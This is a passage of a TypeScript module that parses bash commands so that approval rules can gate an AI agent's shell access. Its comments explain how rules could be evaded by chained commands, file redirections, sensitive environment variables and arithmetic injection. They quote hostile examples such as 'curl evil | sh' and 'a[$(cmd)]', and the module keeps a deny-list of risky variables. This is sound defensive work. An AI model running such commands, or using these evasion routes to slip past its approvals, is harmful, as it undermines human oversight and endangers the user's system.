import { accessSync, constants as fsConstants, statSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import type { Node as SyntaxNode, TreeCursor, Parser as TreeSitterParser } from 'web-tree-sitter';

/**
 * Shell commands as approval rules see them (SECURITY.md, "model ↔ approvals"): a bash command is
 * parsed with tree-sitter-bash into the simple commands that will actually run, so a rule like
 * `pip install *` cannot be satisfied by `pip install x; curl evil | sh`. Whatever cannot be
 * classified safely (command substitution, eval, a program that is not a literal word, writes
 * to files, parse errors, constructs this module does not know) makes the analysis `opaque`, and
 * the caller asks the user. The analysis assumes the command runs under bash (`bash -c`).
 *
 * Rule patterns are plain text, not shell syntax: the first word is the program, the rest is a
 * glob over the remaining words joined by single spaces, where `*` matches any text (spaces
 * included), `\*` is a literal star and nothing else is special. A trailing ` *` also matches
 * nothing, so `pip install *` matches `pip install`. A pattern whose first word contains `*`
 * (`*rm -rf*`) is a glob over the whole command. Deny rules are a best-effort backstop (`rm -r -f`
 * and `find -exec rm` do not spell `rm -rf`); allow rules are where the guarantees are.
 *
 * Decisions worth knowing:
 * - Every simple command needs its own allow rule: in `python train.py 2>&1 | tee log.txt`,
 *   `tee log.txt` (which writes a file) is a command like any other; so are `cd x` and `[ -f x ]`.
 * - `sudo`/`doas` and a wrapper run by path (`/usr/bin/env`, `./timeout`) are commands of their
 *   own *and* the command they run is extracted too: both must be allowed.
 * - Assigning a variable that changes what runs or where data goes (PATH, LD_*, GIT_*,
 *   PYTHON*, *_PROXY, HOME…) before a command, on its own or through `env`/`export` is opaque;
 *   other assignments (`CUDA_VISIBLE_DEVICES=0 python train.py`) are looked through.
 * - Arithmetic (`$((…))`, `((…))`, `let`, `[[ x -eq y ]]`, array subscripts, `declare -i`),
 *   indirect and substring expansions are opaque: bash evaluates a variable's value there, and a
 *   value such as `a[$(cmd)]` runs a command.
 * - A shell reading its script from a pipe is opaque; from a literal heredoc or here-string, or
 *   `bash -c 'literal'`, the script is parsed. `sh -c` scripts may run under dash and must
 *   avoid `&>` and `|&`.
 * - tree-sitter and bash must read the text alike: line continuations inside words, control
 *   characters, text the parser skipped and heredoc delimiters bash would read differently are
 *   opaque.
 */

/** One command that will run, with the wrappers around it looked through. */
export interface SimpleCommand {
  /**
   * Words after looking through leading assignments (`FOO=1`) and wrappers (env, command,
   * builtin, nice, timeout, nohup, time, stdbuf, ionice, xargs, exec); quotes removed from
   * literal words; a word with an expansion keeps its source text.
   */
  words: string[];
  /** words[0] */
  program: string;
  /** The source text of this simple command. */
  text: string;
  /**
   * For each word, true when its value is only known at run time (it holds `$x`, a glob, a
   * `~`, braces or `$'…'`): allow patterns cover such a word only with `*`, deny and ask
   * patterns assume it could be anything. Absent: every word is literal.
   */
  dynamic?: boolean[];
  /** More arguments are appended at run time (`xargs` adds what it reads). */
  appendsArguments?: boolean;
}

export type ShellAnalysis =
  | { kind: 'commands'; commands: SimpleCommand[] }
  | {
      kind: 'opaque';
      /** Why the command cannot be classified safely (the caller asks the user). */
      reason: string;
      /** The commands that could still be found (inside `$(…)`, after the problem…), for deny rules only: never allow from these. */
      partialCommands: SimpleCommand[];
    };

export interface ShellParser {
  analyze(command: string): ShellAnalysis;
}

export interface CommandRule {
  pattern: string | string[];
  action: 'allow' | 'ask' | 'deny';
}

export interface MatchOptions {
  /** The absolute path a bare program name runs (default: search PATH like `command -v`, cached). */
  resolveProgram?(name: string): string | undefined;
}

/** Commands longer than this are not parsed (opaque): a rule decision needs no 20 MB command. */
const MAX_COMMAND_CHARS = 64 * 1024;
/** `bash -c '…'` inside `bash -c '…'`… deeper than this is opaque. */
const MAX_NESTING = 4;

// ---------------------------------------------------------------------------------------------
// Loading the parser

let parserPromise: Promise<ShellParser> | undefined;

/**
 * The bash parser (memoised). web-tree-sitter and tree-sitter-bash ship prebuilt WebAssembly;
 * both files are resolved from this module's location, so this works from the sources and from
 * a bundle that keeps the two packages external (installed next to it by npm).
 */
export function loadShellParser(): Promise<ShellParser> {
  parserPromise ??= createShellParser().catch((error: unknown) => {
    parserPromise = undefined;
    throw error;
  });
  return parserPromise;
}

async function createShellParser(): Promise<ShellParser> {
  const moduleRequire = createRequire(import.meta.url);
  const runtimeWasm = moduleRequire.resolve('web-tree-sitter/tree-sitter.wasm');
  const bashWasm = moduleRequire.resolve('tree-sitter-bash/tree-sitter-bash.wasm');
  const { Parser, Language } = await import('web-tree-sitter');
  await Parser.init({ locateFile: () => runtimeWasm });
  const language = await Language.load(bashWasm);
  const parser = new Parser();
  parser.setLanguage(language);
  return { analyze: (command) => analyzeShellCommand(parser, command) };
}

// ---------------------------------------------------------------------------------------------
// Analysis

/** A word of a command: its value with quotes removed, or its source text when it expands. */
interface Word {
  text: string;
  dynamic: boolean;
  start: number;
  /** An assignment (`export A=$x`) whose name was already checked. */
  assignment?: boolean;
}

/** Where a command's standard input comes from, when it matters (a shell reading its script). */
interface Stdin {
  /** The literal text of a heredoc or here-string; undefined when it is not literal. */
  literal: string | undefined;
}

interface Walk {
  parser: TreeSitterParser;
  source: string;
  /** `sh` scripts (`sh -c '…'`) may run under dash, where `&>` and `|&` mean something else. */
  dialect: 'bash' | 'sh';
  depth: number;
  commands: SimpleCommand[];
  reason: string | undefined;
}

function analyzeShellCommand(parser: TreeSitterParser, command: string): ShellAnalysis {
  const walk: Walk = { parser, source: command, dialect: 'bash', depth: 0, commands: [], reason: undefined };
  try {
    analyzeSource(walk, command);
  } catch (error) {
    // Pathological nesting can exhaust the stack of the recursive walk: never a reason to allow.
    if (!(error instanceof RangeError)) throw error;
    opaque(walk, 'command nested too deeply to analyse');
  }
  if (walk.reason !== undefined) return { kind: 'opaque', reason: walk.reason, partialCommands: walk.commands };
  return { kind: 'commands', commands: walk.commands };
}

function opaque(walk: Walk, reason: string): void {
  walk.reason ??= reason;
}

/** Parse `source` (the command, or the script of a nested `bash -c`) into `walk.commands`. */
function analyzeSource(walk: Walk, source: string): void {
  if (source.length > MAX_COMMAND_CHARS) return opaque(walk, `command longer than ${MAX_COMMAND_CHARS} characters`);
  // bash reads a NUL as the end of the string and control characters as parts of words, where
  // tree-sitter may see whitespace: only tab and newline are accepted.
  if (/[\u0000-\u0008\u000b-\u001f\u007f]/.test(source)) return opaque(walk, 'control character in the command');
  const tree = walk.parser.parse(source);
  if (!tree) return opaque(walk, 'the command could not be parsed');
  const outer = walk.source;
  walk.source = source;
  try {
    const root = tree.rootNode;
    if (root.hasError) opaque(walk, 'syntax error (the shell may read it differently)');
    checkCoverage(walk, tree.walk());
    checkLineContinuations(walk, root);
    visitStatement(walk, root);
  } finally {
    walk.source = outer;
    tree.delete();
  }
}

/**
 * Every character bash reads must be in the tree: tree-sitter can drop a token it did not
 * expect (the `-` of `python - <<EOF`), and a rule must not match a command that lost a word.
 * Whitespace, line continuations, comments and heredoc bodies aside, text outside every leaf
 * token is opaque.
 */
function checkCoverage(walk: Walk, cursor: TreeCursor): void {
  const source = walk.source;
  const covered = new Uint8Array(source.length);
  try {
    let descend = true;
    for (;;) {
      const type = cursor.nodeType;
      const data = type === 'heredoc_body' || type === 'comment';
      if (data || (descend && !cursor.gotoFirstChild())) {
        covered.fill(1, cursor.startIndex, cursor.endIndex);
      } else if (descend) {
        continue;
      }
      if (cursor.gotoNextSibling()) {
        descend = true;
        continue;
      }
      if (!cursor.gotoParent()) break;
      descend = false;
    }
  } finally {
    cursor.delete();
  }
  for (let index = 0; index < source.length; index += 1) {
    if (covered[index]) continue;
    const char = source[index];
    if (char === ' ' || char === '\t' || char === '\n') continue;
    if (char === '\\' && source[index + 1] === '\n') {
      index += 1;
      continue;
    }
    return opaque(walk, `text the parser skipped (${JSON.stringify(source.slice(index, index + 20))})`);
  }
}

/**
 * tree-sitter reads a backslash-newline as whitespace, bash removes it and joins what is on
 * either side (`r\<newline>m` is `rm`, `$\<newline>(id)` is a command substitution). A line
 * continuation is accepted only where that makes no difference: next to a blank, or inside a
 * literal (single quotes, a comment, a quoted heredoc).
 */
function checkLineContinuations(walk: Walk, root: SyntaxNode): void {
  const source = walk.source;
  for (let index = source.indexOf('\\\n'); index !== -1; index = source.indexOf('\\\n', index + 2)) {
    let backslashes = 1;
    while (source[index - backslashes] === '\\') backslashes += 1;
    if (backslashes % 2 === 0) continue; // `\\` then a real newline
    let literal = false;
    for (let node: SyntaxNode | null = root.descendantForIndex(index, index + 1); node; node = node.parent) {
      if (node.type === 'raw_string' || node.type === 'comment') literal = true;
      if (node.type === 'heredoc_body') {
        if (heredocIsQuoted(node.parent)) literal = true;
        else return opaque(walk, 'line continuation inside a heredoc');
      }
      if (literal) break;
    }
    if (literal) continue;
    const before = source[index - 1];
    const after = source[index + 2];
    const blank = (char: string | undefined) => char === undefined || char === ' ' || char === '\t' || char === '\n';
    if (!blank(before) && !blank(after)) return opaque(walk, 'line continuation inside a word');
  }
}

const STATEMENT_CONTAINERS = new Set([
  'program',
  'list',
  'pipeline',
  'subshell',
  'do_group',
  'if_statement',
  'elif_clause',
  'else_clause',
  'while_statement',
  'negated_command',
]);

function visitStatement(walk: Walk, node: SyntaxNode): void {
  if (node.isMissing) return opaque(walk, 'incomplete command');
  switch (node.type) {
    case 'comment':
      return;
    case 'command':
      return visitCommand(walk, node, [], undefined);
    case 'redirected_statement':
      return visitRedirected(walk, node);
    case 'declaration_command':
    case 'unset_command':
      return visitDeclaration(walk, node);
    case 'test_command':
      return visitTest(walk, node);
    case 'variable_assignment':
      checkAssignment(walk, node);
      return;
    case 'variable_assignments':
      for (const child of node.namedChildren) if (child) checkAssignment(walk, child);
      return;
    case 'compound_statement':
      // `{ …; }` is a group; `(( … ))` is arithmetic, which evaluates variables' values as code.
      if (node.child(0)?.type === '((') return opaque(walk, 'arithmetic command');
      return visitChildren(walk, node);
    case 'for_statement':
      return visitFor(walk, node);
    case 'case_statement':
      return visitCase(walk, node);
    case 'function_definition':
      return visitFunction(walk, node);
    case 'c_style_for_statement':
      opaque(walk, 'arithmetic for loop');
      return visitChildren(walk, node);
    default:
      if (STATEMENT_CONTAINERS.has(node.type)) {
        if (walk.dialect === 'sh' && node.type === 'pipeline' && node.children.some((child) => child?.type === '|&')) {
          opaque(walk, '`|&` means something else in sh');
        }
        return visitChildren(walk, node);
      }
      opaque(walk, node.type === 'ERROR' ? 'syntax error (the shell may read it differently)' : `unsupported shell construct (${node.type})`);
      // Best effort for deny rules: the commands inside still count.
      return visitChildren(walk, node);
  }
}

/** web-tree-sitter hands out a new object for each access: compare nodes by id. */
function sameNode(a: SyntaxNode | null | undefined, b: SyntaxNode | null | undefined): boolean {
  return a !== null && a !== undefined && b !== null && b !== undefined && a.id === b.id;
}

function visitChildren(walk: Walk, node: SyntaxNode): void {
  for (const child of node.namedChildren) if (child) visitStatement(walk, child);
}

function visitFor(walk: Walk, node: SyntaxNode): void {
  const variable = node.childForFieldName('variable');
  if (variable && isSensitiveVariable(variable.text)) opaque(walk, `the loop assigns ${variable.text}`);
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (!child?.isNamed || sameNode(child, variable)) continue;
    if (node.fieldNameForChild(index) === 'value') wordOf(walk, child);
    else visitStatement(walk, child);
  }
}

function visitCase(walk: Walk, node: SyntaxNode): void {
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (!child?.isNamed) continue;
    if (node.fieldNameForChild(index) === 'value') {
      wordOf(walk, child);
    } else if (child.type === 'case_item') {
      for (let itemIndex = 0; itemIndex < child.childCount; itemIndex += 1) {
        const part = child.child(itemIndex);
        if (!part?.isNamed) continue;
        if (child.fieldNameForChild(itemIndex) === 'value') wordOf(walk, part);
        else visitStatement(walk, part);
      }
    } else {
      visitStatement(walk, child);
    }
  }
}

function visitFunction(walk: Walk, node: SyntaxNode): void {
  // The body's commands are extracted like any others: defining `pip() { curl …; }` and calling
  // `pip install x` still needs `curl …` to be allowed.
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (!child?.isNamed) continue;
    const field = node.fieldNameForChild(index);
    if (field === 'name') continue;
    if (field === 'redirect' || child.type === 'file_redirect') {
      if (checkFileRedirect(walk, child).length > 0) opaque(walk, 'words after a redirection');
    } else {
      visitStatement(walk, child);
    }
  }
}

/** `cmd … > /dev/null 2>&1`, `while …; done < file`, `cat <<EOF …`. */
function visitRedirected(walk: Walk, node: SyntaxNode): void {
  const body = node.childForFieldName('body');
  const extra: Word[] = [];
  let stdin: Stdin | undefined;
  // The command's text runs to its last redirection (a heredoc's body and what follows it on
  // the line, `cat <<EOF | sh`, are not part of it).
  let end = body?.endIndex ?? node.startIndex;
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (!child?.isNamed || sameNode(child, body)) continue;
    switch (child.type) {
      case 'file_redirect':
        extra.push(...checkFileRedirect(walk, child));
        if (isInputRedirect(child)) stdin = { literal: undefined };
        end = Math.max(end, child.endIndex);
        break;
      case 'herestring_redirect':
        stdin = checkHereString(walk, child);
        end = Math.max(end, child.endIndex);
        break;
      case 'heredoc_redirect':
        stdin = checkHeredoc(walk, child, extra);
        end = Math.max(end, child.children.find((part) => part?.type === 'heredoc_start')?.endIndex ?? end);
        break;
      default:
        visitStatement(walk, child);
    }
  }
  if (body?.type === 'command') return visitCommand(walk, body, extra, stdin, walk.source.slice(node.startIndex, end));
  if (extra.length > 0) opaque(walk, 'words after a redirection');
  if (body) visitStatement(walk, body);
}

function visitCommand(walk: Walk, node: SyntaxNode, extra: Word[], stdin: Stdin | undefined, text = node.text): void {
  const words: Word[] = [...extra];
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (!child?.isNamed) continue;
    const field = node.fieldNameForChild(index);
    if (child.type === 'variable_assignment') {
      checkAssignment(walk, child);
    } else if (child.type === 'file_redirect') {
      words.push(...checkFileRedirect(walk, child));
      if (isInputRedirect(child)) stdin = { literal: undefined };
    } else if (child.type === 'herestring_redirect') {
      stdin = checkHereString(walk, child);
    } else if (child.type === 'command_name') {
      const name = child.namedChild(0);
      if (name) words.push(wordOf(walk, name));
    } else if (field === 'argument') {
      words.push(wordOf(walk, child));
    } else {
      opaque(walk, `unsupported part of a command (${child.type})`);
    }
  }
  // Words after a redirection (`cmd >/dev/null arg`) are arguments too: keep source order.
  words.sort((a, b) => a.start - b.start);
  resolveCommand(walk, words, text, stdin);
}

/** `export A=1`, `declare -r x`, `unset y`: builtins that take variable names. */
function visitDeclaration(walk: Walk, node: SyntaxNode): void {
  const words: Word[] = [];
  for (const child of node.children) {
    if (!child) continue;
    if (!child.isNamed) {
      if (words.length === 0) words.push({ text: child.text, dynamic: false, start: child.startIndex });
      continue;
    }
    if (child.type === 'variable_assignment') {
      const value = checkAssignment(walk, child);
      const operator = child.children.find((part) => part?.type === '=' || part?.type === '+=')?.type ?? '=';
      const text = value.dynamic ? child.text : `${child.childForFieldName('name')?.text ?? ''}${operator}${value.text}`;
      words.push({ text, dynamic: value.dynamic, start: child.startIndex, assignment: true });
    } else if (child.type === 'variable_name') {
      words.push({ text: child.text, dynamic: false, start: child.startIndex });
    } else {
      words.push(wordOf(walk, child));
    }
  }
  checkNameArguments(walk, words[0]?.text ?? '', words);
  emit(walk, words, node.text, false);
}

/** `[ -f x ]` and `[[ $a == b* ]]`: commands named `[` and `[[` with their words. */
function visitTest(walk: Walk, node: SyntaxNode): void {
  const words: Word[] = [];
  const open = node.child(0)?.type === '[[' ? '[[' : '[';
  const collect = (current: SyntaxNode): void => {
    for (const child of current.children) {
      if (!child) continue;
      if (!child.isNamed) {
        words.push({ text: child.type, dynamic: false, start: child.startIndex });
      } else if (['unary_expression', 'binary_expression', 'parenthesized_expression', 'negated_expression'].includes(child.type)) {
        collect(child);
      } else if (child.type === 'test_operator') {
        words.push({ text: child.text, dynamic: false, start: child.startIndex });
      } else {
        words.push(wordOf(walk, child));
      }
    }
  };
  collect(node);
  if (open === '[[' && words.some((word) => !word.dynamic && /^-(eq|ne|lt|le|gt|ge)$/.test(word.text))) {
    // `[[ x -eq 1 ]]` evaluates x's value as arithmetic, which can run `a[$(cmd)]`.
    opaque(walk, 'arithmetic comparison in [[ ]]');
  }
  checkTestArguments(walk, words);
  emit(walk, words, node.text, false);
}

// ---------------------------------------------------------------------------------------------
// Words

/**
 * The value of a word-like node. Substitutions and arithmetic make the walk opaque (their
 * commands are still collected for deny rules); parameter expansions make the word dynamic.
 */
function wordOf(walk: Walk, node: SyntaxNode, wordStart = true): Word {
  const word = (text: string, dynamic: boolean): Word => ({ text, dynamic, start: node.startIndex });
  switch (node.type) {
    case 'word':
      return { ...unquotedWord(walk, node.text, wordStart), start: node.startIndex };
    case 'number':
      return word(node.text, false);
    case 'raw_string':
      return word(node.text.slice(1, -1), false);
    case 'string':
      return doubleQuoted(walk, node);
    case 'concatenation':
      return concatenation(walk, node);
    case 'simple_expansion':
      return word(node.text, true);
    case 'expansion':
      checkExpansion(walk, node);
      return word(node.text, true);
    case 'ansi_c_string':
    case 'translated_string':
    case 'brace_expression':
      return word(node.text, true);
    case 'extglob_pattern':
    case 'regex':
      if (hasUnparsedExpansion(node.text)) opaque(walk, 'expansion the parser did not read');
      return word(node.text, true);
    case 'command_substitution':
      opaque(walk, 'command substitution');
      visitChildren(walk, node);
      return word(node.text, true);
    case 'process_substitution':
      opaque(walk, 'process substitution');
      visitChildren(walk, node);
      return word(node.text, true);
    case 'arithmetic_expansion':
      opaque(walk, 'arithmetic expansion');
      return word(node.text, true);
    default:
      opaque(walk, `unsupported word (${node.type})`);
      visitChildren(walk, node);
      return word(node.text, true);
  }
}

/**
 * Quote removal for an unquoted word (`r\m` is `rm`). Globs, a leading `~` (or one after `=`
 * or `:`) and braces (`{a,b}`) expand at run time: such a word is dynamic.
 */
function unquotedWord(walk: Walk, raw: string, wordStart: boolean): { text: string; dynamic: boolean } {
  if (hasUnparsedExpansion(raw)) opaque(walk, 'expansion the parser did not read');
  let text = '';
  let dynamic = false;
  for (let index = 0; index < raw.length; index += 1) {
    const char = raw[index] as string;
    if (char === '\\') {
      const next = raw[index + 1];
      index += 1;
      if (next !== undefined && next !== '\n') text += next;
      continue;
    }
    if (char === '*' || char === '?' || char === '[') dynamic = true;
    if (char === '~' && ((index === 0 && wordStart) || raw[index - 1] === '=' || raw[index - 1] === ':')) dynamic = true;
    text += char;
  }
  return { text, dynamic: dynamic || hasBraceExpansion(raw) };
}

/** `{a,b}` or `{1..3}` (conservatively: quoted commas count too); `{}` and `{x}` stay literal. */
function hasBraceExpansion(raw: string): boolean {
  return /\{[^}]*(,|\.\.)[^{]*\}/.test(raw.replace(/\\[{},.]/g, '__'));
}

/** `"…"`: backslash escapes only `$ \` " \\` and newline; expansions make it dynamic. */
function doubleQuoted(walk: Walk, node: SyntaxNode): Word {
  let text = '';
  let dynamic = false;
  for (const child of node.children) {
    if (!child || child.type === '"') continue;
    if (child.type === 'string_content') {
      if (hasUnparsedExpansion(child.text)) opaque(walk, 'expansion the parser did not read');
      text += child.text.replace(/\\([$`"\\\n])/g, (_match, escaped: string) => (escaped === '\n' ? '' : escaped));
    } else if (!child.isNamed) {
      text += child.text; // a lone `$`
    } else {
      wordOf(walk, child);
      dynamic = true;
      text += child.text;
    }
  }
  return dynamic ? { text: node.text, dynamic, start: node.startIndex } : { text, dynamic, start: node.startIndex };
}

function concatenation(walk: Walk, node: SyntaxNode): Word {
  let text = '';
  let dynamic = false;
  let first = true;
  for (const child of node.namedChildren) {
    if (!child) continue;
    const part = wordOf(walk, child, first);
    first = false;
    text += part.text;
    dynamic ||= part.dynamic;
  }
  // `{a,b}` arrives as the parts `{`, `a,b`, `}`.
  dynamic ||= hasBraceExpansion(node.text);
  return { text: dynamic ? node.text : text, dynamic, start: node.startIndex };
}

const EXPANSION_OPERATORS = new Set(['${', '}', '#', '##', '%', '%%', '/', '//', '/#', '/%', '-', ':-', '=', ':=', '+', ':+', '?', ':?', '^', '^^', ',', ',,']);

/**
 * `${name…}` forms that only read variables. Indirection (`${!x}`), offsets (`${x:1}`),
 * transformations (`${x@P}`) and computed subscripts evaluate a value as arithmetic or prompt
 * code, where a planted `a[$(cmd)]` runs: those are opaque.
 */
function checkExpansion(walk: Walk, node: SyntaxNode): void {
  for (const child of node.children) {
    if (!child) continue;
    if (!child.isNamed) {
      if (!EXPANSION_OPERATORS.has(child.type)) opaque(walk, `parameter expansion with ${child.type}`);
    } else if (child.type === 'subscript') {
      const index = child.childForFieldName('index');
      if (!index || !/^(@|\*|[0-9]+)$/.test(index.text)) opaque(walk, 'array subscript (evaluated as arithmetic)');
    } else if (child.type !== 'variable_name' && child.type !== 'special_variable_name') {
      wordOf(walk, child);
    }
  }
}

/** `$(`, backticks, `${`, `$[`, `<(`, `>(` outside quotes in text the parser kept as a leaf. */
function hasUnparsedExpansion(text: string): boolean {
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (char === '\\') {
      index += 1;
      continue;
    }
    const next = text[index + 1];
    if (char === '`') return true;
    if (char === '$' && (next === '(' || next === '{' || next === '[')) return true;
    if ((char === '<' || char === '>') && next === '(') return true;
  }
  return false;
}

// ---------------------------------------------------------------------------------------------
// Assignments and variables

/**
 * Variables that change which program runs, what code it loads, which configuration it reads,
 * or where its traffic and tokens go (`GIT_CONFIG_*=… git status` runs any command). Assigning
 * one is opaque. Deliberately broad; still a deny-list, so allow rules remain the guarantee.
 */
const SENSITIVE_VARIABLES = new Set([
  'PATH',
  'IFS',
  'CDPATH',
  'HOME',
  'ENV',
  'SHELLOPTS',
  'GLOBIGNORE',
  'PROMPT_COMMAND',
  'PS0',
  'PS1',
  'PS2',
  'PS3',
  'PS4',
  'SHELL',
  'EDITOR',
  'VISUAL',
  'PAGER',
  'MANPAGER',
  'BROWSER',
  'TMPDIR',
  'GCONV_PATH',
  'GLIBC_TUNABLES',
  'LOCPATH',
  'NLSPATH',
  'OPENSSL_CONF',
  'OPENSSL_ENGINES',
  'REQUESTS_CA_BUNDLE',
  'CURL_CA_BUNDLE',
  'SSL_CERT_FILE',
  'SSL_CERT_DIR',
]);
const SENSITIVE_PREFIXES = ['LD_', 'DYLD_', 'BASH', 'GIT_', 'PYTHON', 'NODE_', 'NPM_CONFIG_', 'PERL', 'RUBY', 'JAVA_', '_JAVA_', 'JDK_', 'XDG_', 'LESS', 'SSH_', 'DOCKER_'];
const SENSITIVE_SUFFIX = /(_PROXY|_ENDPOINT|_BASE_URL|_API_BASE|_CA_BUNDLE)$/i;

function isSensitiveVariable(name: string): boolean {
  return SENSITIVE_VARIABLES.has(name) || SENSITIVE_PREFIXES.some((prefix) => name.startsWith(prefix)) || SENSITIVE_SUFFIX.test(name);
}

const VARIABLE_NAME = /^[A-Za-z_][A-Za-z0-9_]*$/;

/** `NAME=value` before a command, on its own, or after `export`; returns the value. */
function checkAssignment(walk: Walk, node: SyntaxNode): { text: string; dynamic: boolean } {
  const name = node.childForFieldName('name');
  if (!name || name.type !== 'variable_name') opaque(walk, 'assignment to an array element (evaluated as arithmetic)');
  else if (isSensitiveVariable(name.text)) opaque(walk, `assigns ${name.text}`);
  const value = node.childForFieldName('value');
  if (!value) return { text: '', dynamic: false };
  if (value.type !== 'array') return wordOf(walk, value, false);
  for (const element of value.namedChildren) {
    if (!element) continue;
    if (element.text.startsWith('[')) opaque(walk, 'array index (evaluated as arithmetic)');
    wordOf(walk, element);
  }
  return { text: value.text, dynamic: true };
}

/** An `env`/`sudo` operand `NAME=value` (env accepts any name, including `BASH_FUNC_x%%`). */
function checkEnvironmentOperand(walk: Walk, word: Word): void {
  const name = word.text.slice(0, word.text.indexOf('='));
  if (!VARIABLE_NAME.test(name)) opaque(walk, `environment entry ${name} is not a plain variable name`);
  else if (isSensitiveVariable(name)) opaque(walk, `sets ${name}`);
}

/**
 * Builtins that take variable names (`read`, `declare`, `printf -v`…) evaluate a subscript in a
 * name as arithmetic, which runs `a[$(cmd)]`: their names must be literal, plain and not
 * sensitive; `declare -i`/`-n` make later assignments evaluate too.
 */
const NAME_BUILTINS = new Set(['read', 'mapfile', 'readarray', 'getopts', 'unset', 'export', 'declare', 'typeset', 'local', 'readonly', 'wait']);

function checkNameArguments(walk: Walk, program: string, words: Word[]): void {
  for (const word of words.slice(1)) {
    if (word.assignment) continue;
    if (word.dynamic) {
      opaque(walk, `${program} with an argument only known at run time`);
      continue;
    }
    if (/^[-+]./.test(word.text)) {
      if (['declare', 'typeset', 'local'].includes(program) && /[in]/.test(word.text)) opaque(walk, `${program} ${word.text} (integer or reference variables)`);
      if ((program === 'mapfile' || program === 'readarray') && word.text.includes('C')) opaque(walk, `${program} -C runs a callback`);
      continue;
    }
    checkNameWord(walk, program, word.text);
  }
}

function checkNameWord(walk: Walk, program: string, text: string): void {
  const name = text.split(/\+?=/)[0] ?? '';
  if (name.includes('[') || hasUnparsedExpansion(text)) opaque(walk, `${program} with an array subscript (evaluated as arithmetic)`);
  else if (isSensitiveVariable(name)) opaque(walk, `${program} changes ${name}`);
}

/** `test -v name` / `[ -v name ]` resolve the name like `read` does. */
function checkTestArguments(walk: Walk, words: Word[]): void {
  words.forEach((word, index) => {
    if (word.dynamic || (word.text !== '-v' && word.text !== '-R')) return;
    const operand = words[index + 1];
    if (!operand || operand.dynamic || !VARIABLE_NAME.test(operand.text)) opaque(walk, `test ${word.text} with a name that is not a plain variable`);
  });
}

// ---------------------------------------------------------------------------------------------
// Redirections

const HARMLESS_TARGETS = new Set(['/dev/null', '/dev/stdout', '/dev/stderr']);

function redirectOperator(node: SyntaxNode): string {
  for (const child of node.children) if (child && !child.isNamed) return child.type;
  return '';
}

function isInputRedirect(node: SyntaxNode): boolean {
  return redirectOperator(node) === '<';
}

/**
 * Output to a file writes something no rule saw (`pip install x > ~/.bashrc`): opaque unless it
 * goes to /dev/null, /dev/stdout or /dev/stderr or duplicates a descriptor (`2>&1`). Returns
 * the words tree-sitter attached after the target (`cmd >/dev/null arg`): they are arguments.
 */
function checkFileRedirect(walk: Walk, node: SyntaxNode): Word[] {
  const operator = redirectOperator(node);
  const destinations: SyntaxNode[] = [];
  for (let index = 0; index < node.childCount; index += 1) {
    const child = node.child(index);
    if (child && node.fieldNameForChild(index) === 'destination') destinations.push(child);
  }
  const [target, ...rest] = destinations;
  const targetWord = target ? wordOf(walk, target) : undefined;
  switch (operator) {
    case '<':
      break;
    case '>&':
    case '<&':
      if (!targetWord || targetWord.dynamic || !/^([0-9]+|-)$/.test(targetWord.text)) opaque(walk, `redirection ${operator} to a file`);
      break;
    case '>&-':
    case '<&-':
      break;
    case '&>':
    case '&>>':
      if (walk.dialect === 'sh') opaque(walk, '`&>` means something else in sh');
    // falls through
    case '>':
    case '>>':
    case '>|':
    case '<>':
      if (!targetWord || targetWord.dynamic || !HARMLESS_TARGETS.has(targetWord.text)) {
        opaque(walk, `writes to ${targetWord?.text ?? 'a file'} (output redirection)`);
      }
      break;
    default:
      opaque(walk, `unsupported redirection ${operator || node.text}`);
  }
  for (const child of node.namedChildren) {
    if (child && child.type !== 'file_descriptor' && !destinations.some((destination) => sameNode(destination, child))) opaque(walk, `unsupported redirection ${node.text}`);
  }
  return rest.map((word) => wordOf(walk, word));
}

function checkHereString(walk: Walk, node: SyntaxNode): Stdin {
  const value = node.namedChildren.find((child) => child !== null);
  if (!value) return { literal: undefined };
  const word = wordOf(walk, value);
  return { literal: word.dynamic ? undefined : `${word.text}\n` };
}

function heredocIsQuoted(redirect: SyntaxNode | null): boolean {
  const start = redirect?.children.find((child) => child?.type === 'heredoc_start');
  return start ? /['"\\]/.test(start.text) : false;
}

/**
 * `<<EOF`: the end line must be exactly the delimiter (bash is strict where tree-sitter is
 * lenient, and a body that bash ends earlier would hide commands). An unquoted body expands
 * like a double-quoted string. Returns the body as standard input when it is literal.
 */
function checkHeredoc(walk: Walk, node: SyntaxNode, extra: Word[]): Stdin {
  const source = walk.source;
  const stripTabs = node.children.some((child) => child?.type === '<<-');
  const start = node.children.find((child) => child?.type === 'heredoc_start');
  const end = node.children.find((child) => child?.type === 'heredoc_end');
  const body = node.children.find((child) => child?.type === 'heredoc_body');
  if (!start || !end || end.isMissing) {
    opaque(walk, 'unterminated heredoc');
    return { literal: undefined };
  }
  const quoted = heredocIsQuoted(node);
  const delimiter = start.text.replace(/\\(.)|['"]/g, '$1');
  const lineStart = source.lastIndexOf('\n', end.startIndex - 1) + 1;
  const indent = source.slice(lineStart, end.startIndex);
  const endLineOk = (indent === '' || (stripTabs && /^\t+$/.test(indent))) && (end.endIndex === source.length || source[end.endIndex] === '\n');
  const bodyText = body?.text ?? '';
  const lines = bodyText.split('\n').map((line) => (stripTabs ? line.replace(/^\t+/, '') : line));
  if (end.text !== delimiter || !endLineOk || lines.includes(delimiter)) opaque(walk, 'heredoc delimiter that bash may read differently');

  let literal: string | undefined = stripTabs ? lines.join('\n') : bodyText;
  for (const child of node.namedChildren) {
    if (!child || sameNode(child, start) || sameNode(child, end)) continue;
    if (sameNode(child, body)) {
      for (const part of child.namedChildren) {
        if (!part || part.type === 'heredoc_content') continue;
        if (quoted) opaque(walk, 'unexpected expansion in a quoted heredoc');
        wordOf(walk, part);
        literal = undefined;
      }
      if (!quoted) {
        if (/[\\$`]/.test(bodyText)) literal = undefined;
        const contents = child.namedChildren.length === 0 ? [child] : child.namedChildren.filter((part) => part?.type === 'heredoc_content');
        if (contents.some((part) => part && hasUnparsedExpansion(part.text))) opaque(walk, 'expansion the parser did not read');
      }
    } else if (child.type === 'file_redirect') {
      extra.push(...checkFileRedirect(walk, child));
    } else if (child.type === 'herestring_redirect' || child.type === 'heredoc_redirect') {
      opaque(walk, 'several inputs for one command');
    } else {
      // `cat <<EOF | sh`, `cat <<EOF && rm x`: the rest of the line hangs off the heredoc.
      visitStatement(walk, child);
